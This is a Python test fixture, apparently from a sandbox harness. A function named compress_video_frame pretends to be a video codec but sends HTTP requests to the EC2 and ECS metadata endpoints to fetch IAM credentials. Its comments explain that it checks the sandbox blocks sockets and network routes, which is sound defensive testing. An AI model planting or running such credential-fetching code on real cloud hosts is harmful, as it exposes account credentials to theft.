# hostile: cloud credential theft: HTTP to 169.254.169.254 (EC2 IMDS v1 and v2) and 169.254.170.2 (ECS)
# expect-evaluate: forbidden_imports
# expect-direct: runtime_errors
# expect-message: blocked: .*Network is unreachable
#
# Why: socket is not allowed (forbidden_imports). On the EC2 host the instance role's credentials
# are one HTTP request away for anything with a route to the link-local metadata address. With
# network none there is no route: connect() fails with ENETUNREACH and the codec raises =>
# runtime_errors. A connect that succeeds returns a valid frame (the response is read but never
# reported) and the test notices.
import socket

import numpy as np

REQUESTS = [
    ("169.254.169.254", b"PUT /latest/api/token HTTP/1.1\r\nHost: 169.254.169.254\r\n"
     b"X-aws-ec2-metadata-token-ttl-seconds: 60\r\n\r\n"),
    ("169.254.169.254", b"GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\r\n\r\n"),
    ("169.254.170.2", b"GET /v2/credentials HTTP/1.0\r\n\r\n"),
]


def compress_video_frame(frame, config):
    errors = []
    for host, request in REQUESTS:
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.settimeout(1.0)
        try:
            sock.connect((host, 80))
            sock.sendall(request)
            answered = len(sock.recv(4096))
            return {"compressed": frame.tobytes(), "metadata": {"imds_bytes": answered}}
        except OSError as err:
            errors.append("%s:80 %s" % (host, err))
        finally:
            sock.close()
    raise RuntimeError("blocked: " + "; ".join(errors))


def decompress_video_frame(compressed, metadata, config):
    shape = (config["height"], config["width"], 3)
    return np.frombuffer(compressed, np.uint8).reshape(shape).copy()
